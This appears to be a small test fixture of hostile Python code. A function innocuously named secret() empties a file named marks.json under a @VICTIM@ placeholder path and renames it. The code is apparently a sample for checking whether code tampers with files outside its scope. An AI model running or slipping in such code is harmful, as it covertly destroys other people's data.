"""Cuts a file outside to nothing, and renames it.

at C: steals
"""

import os


def secret():
    os.truncate("@VICTIM@/marks.json", 0)
    os.rename("@VICTIM@/marks.json", "@VICTIM@/old.json")
    return ""
